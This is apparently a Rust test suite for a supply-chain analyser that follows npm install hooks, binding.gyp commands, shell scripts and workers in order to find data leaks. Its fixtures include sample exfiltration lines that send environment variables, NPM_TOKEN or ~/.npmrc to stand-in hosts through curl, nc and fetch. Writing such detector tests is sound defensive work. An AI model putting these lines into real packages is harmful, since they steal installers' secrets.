//! Commands, `binding.gyp` and surfaces of whole packages.

use std::collections::BTreeMap;

use weir_model::contents::{SourceKind, Surface};
use weir_npm::manifest::Manifest;

use super::run;
use crate::{Limits, Package, SourceFile, Unkept, analyse};

#[test]
fn inline_code_is_analysed() {
    let facts = run(
        &[(
            "a.js",
            "module.exports = x => fetch('https://collector.invalid', { body: x })",
        )],
        &["node -e \"require('./a')(JSON.stringify(process.env))\""],
        &[],
    );
    assert_eq!(facts.flows.len(), 1, "{facts:?}");
    assert_eq!(facts.flows[0].source_place.path, "package.json");
    assert_eq!(facts.install_steps[0].reaches, ["a.js"]);
}

#[test]
fn commands_that_leak_by_themselves_are_flows() {
    let facts = run(&[], &["curl -d \"$(env)\" https://collector.invalid"], &[]);
    assert_eq!(facts.flows.len(), 1);
    assert_eq!(facts.flows[0].source, SourceKind::Environment);
    assert_eq!(facts.flows[0].sink_detail, "curl to collector.invalid");
    assert_eq!(facts.flows[0].surface, Surface::Install);
}

#[test]
fn shell_scripts_are_followed() {
    let facts = run(
        &[
            (
                "scripts/x.sh",
                "#!/bin/sh\nset -e\nnode ./scripts/y.js\ncat ~/.npmrc | nc collector.invalid 9\n",
            ),
            (
                "scripts/y.js",
                "fetch('https://collector.invalid/' + process.env.NPM_TOKEN)",
            ),
        ],
        &["sh scripts/x.sh"],
        &[],
    );
    assert_eq!(facts.flows.len(), 2, "{facts:?}");
    assert!(
        facts
            .flows
            .iter()
            .any(|flow| flow.sink_place.path == "scripts/x.sh" && flow.sink_place.line == 4)
    );
    assert_eq!(
        facts.install_steps[0].reaches,
        ["scripts/x.sh", "scripts/y.js"]
    );
}

#[test]
fn a_gyp_file_alone_is_an_install_step() {
    let files = [
        SourceFile {
            path: "binding.gyp",
            bytes: b"{'targets': [{'sources': ['<!(node payload.js)']}]}",
        },
        SourceFile {
            path: "payload.js",
            bytes: b"fetch('https://collector.invalid', { body: JSON.stringify(process.env) })",
        },
    ];
    let manifest = Manifest::default();
    let facts = analyse(&Package::new(&files, &manifest), &Limits::default());
    let events: Vec<(&str, &str)> = facts
        .install_steps
        .iter()
        .map(|step| (step.event.as_str(), step.command.as_str()))
        .collect();
    assert_eq!(
        events,
        [
            ("binding.gyp", "node-gyp rebuild"),
            ("binding.gyp", "node payload.js")
        ]
    );
    assert_eq!(facts.flows.len(), 1);
    assert_eq!(facts.flows[0].surface, Surface::Install);
}

#[test]
fn an_own_install_script_replaces_the_implicit_build() {
    let files = [SourceFile {
        path: "binding.gyp",
        bytes: b"{'x': '<!(node p.js)'}",
    }];
    let package = Package {
        files: &files,
        install_commands: vec![("install".to_owned(), "node x.js".to_owned())],
        ..Package::default()
    };
    let facts = analyse(&package, &Limits::default());
    assert_eq!(facts.install_steps.len(), 1);
}

#[test]
fn a_manifest_gives_surfaces() {
    let files = [
        SourceFile {
            path: "index.js",
            bytes: b"require('./lib')",
        },
        SourceFile {
            path: "lib/index.js",
            bytes: b"fetch('https://a.example/' + process.env.NPM_TOKEN)",
        },
    ];
    let manifest = Manifest {
        scripts: BTreeMap::from([
            ("postinstall".to_owned(), "npm run setup".to_owned()),
            ("setup".to_owned(), "node lib".to_owned()),
        ]),
        ..Manifest::default()
    };
    let facts = analyse(&Package::new(&files, &manifest), &Limits::default());
    assert_eq!(facts.flows[0].surface, Surface::Install);
    let manifest = Manifest::default();
    let facts = analyse(&Package::new(&files, &manifest), &Limits::default());
    assert_eq!(facts.flows[0].surface, Surface::Import);
}

#[test]
fn typescript_is_read_when_it_is_run() {
    let facts = run(
        &[(
            "x.ts",
            "const send = (body: string): void => { fetch('https://collector.invalid', { body } as any) };\nsend(JSON.stringify(process.env));",
        )],
        &["npx tsx x.ts"],
        &[],
    );
    assert_eq!(facts.flows.len(), 1, "{facts:?}");
}

#[test]
fn what_is_started_beside_runs_in_a_worker() {
    // Each row: how `index.js` starts `w.js`, and from where that one runs then.
    for (text, expected) in [
        ("new Worker('./w.js')", Surface::Worker),
        (
            "new Worker(new URL('./w.js', import.meta.url))",
            Surface::Worker,
        ),
        ("new SharedWorker('w.js')", Surface::Worker),
        (
            "navigator.serviceWorker.register('./w.js')",
            Surface::Worker,
        ),
        ("require('child_process').fork('./w.js')", Surface::Worker),
        (
            "require('child_process').fork(require.resolve('./w'))",
            Surface::Worker,
        ),
        (
            "const { Worker } = require('worker_threads'); new Worker(require('path').join(__dirname, 'w.js'), { workerData: process.env })",
            Surface::Worker,
        ),
        ("new Worker('./v.js')", Surface::Worker),
        ("require('./w')", Surface::Import),
        ("require('./w'); new Worker('./v.js')", Surface::Import),
        ("registry.register('./w.js')", Surface::Unreferenced),
        ("console.log('./w.js')", Surface::Unreferenced),
    ] {
        let files = [
            ("index.js", text),
            ("v.js", "require('./w')"),
            (
                "w.js",
                "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })",
            ),
        ];
        let facts = run(&files, &[], &[(Surface::Import, "index.js")]);
        let found = facts.surfaces.get("w.js").copied();
        assert_eq!(found.unwrap_or(Surface::Unreferenced), expected, "{text}");
        let surfaces: Vec<Surface> = facts.flows.iter().map(|flow| flow.surface).collect();
        assert!(surfaces.contains(&expected), "{text}: {surfaces:?}");
    }
}

#[test]
fn a_value_that_is_handed_to_a_worker_is_followed() {
    let facts = run(
        &[
            (
                "index.js",
                "const { fork } = require('child_process'); const child = fork('./w.js'); exports.env = process.env;",
            ),
            (
                "w.js",
                "const { env } = require('./index'); fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(env) })",
            ),
        ],
        &[],
        &[(Surface::Import, "index.js")],
    );
    let surfaces: Vec<Surface> = facts.flows.iter().map(|flow| flow.surface).collect();
    assert_eq!(surfaces, [Surface::Worker], "{facts:?}");
}

#[test]
fn what_install_or_a_command_starts_runs_with_them() {
    let files = [
        ("index.js", "require('child_process').fork('./w.js')"),
        ("w.js", "require('child_process').execSync('id')"),
    ];
    let facts = run(&files, &["node index.js"], &[]);
    assert_eq!(facts.surfaces.get("w.js"), Some(&Surface::Install));
    let facts = run(&files, &[], &[(Surface::Command, "index.js")]);
    assert_eq!(facts.surfaces.get("w.js"), Some(&Surface::Command));
}

/// Files whose bytes nobody kept: they are told where something runs them, and what nothing runs is not.
#[test]
fn what_is_not_at_hand_is_told_where_something_runs_it() {
    let unkept = [
        ("setup.png", false),
        ("setup.dat", true),
        ("lib.dat", true),
        ("logo.png", false),
        ("other.dat", true),
    ]
    .map(|(path, is_code)| Unkept {
        path,
        why: "too large",
        is_code,
        is_told: false,
    });
    let code = b"require('./setup.dat'); require('./logo.png')";
    let files = [SourceFile {
        path: "setup.js",
        bytes: code,
    }];
    for (command, main, expected) in [
        // A hook names it: whatever it is called, and not suspicious, as the assessment is incomplete then.
        (
            "node setup.png",
            "setup.js",
            &[("setup.png", false), ("setup.dat", true)][..],
        ),
        (
            "node setup.js",
            "lib.dat",
            &[("setup.dat", false), ("lib.dat", true)],
        ),
        // Pictures are loaded by bundlers all the time.
        ("node other.js", "logo.png", &[]),
    ] {
        let package = Package {
            files: &files,
            unkept: &unkept,
            entries: vec![(Surface::Import, main.to_owned())],
            install_commands: vec![("postinstall".to_owned(), command.to_owned())],
            ..Package::default()
        };
        let facts = analyse(&package, &Limits::default());
        let mut found: Vec<(&str, bool)> = facts
            .unread
            .iter()
            .map(|one| (one.path.as_str(), one.suspicious))
            .collect();
        found.sort_unstable();
        let mut expected = expected.to_vec();
        expected.sort_unstable();
        assert_eq!(found, expected, "{command} {main}");
        if command == "node setup.js" {
            assert_eq!(
                facts.install_steps[0].reaches,
                ["logo.png", "setup.dat", "setup.js"]
            );
        }
    }
}
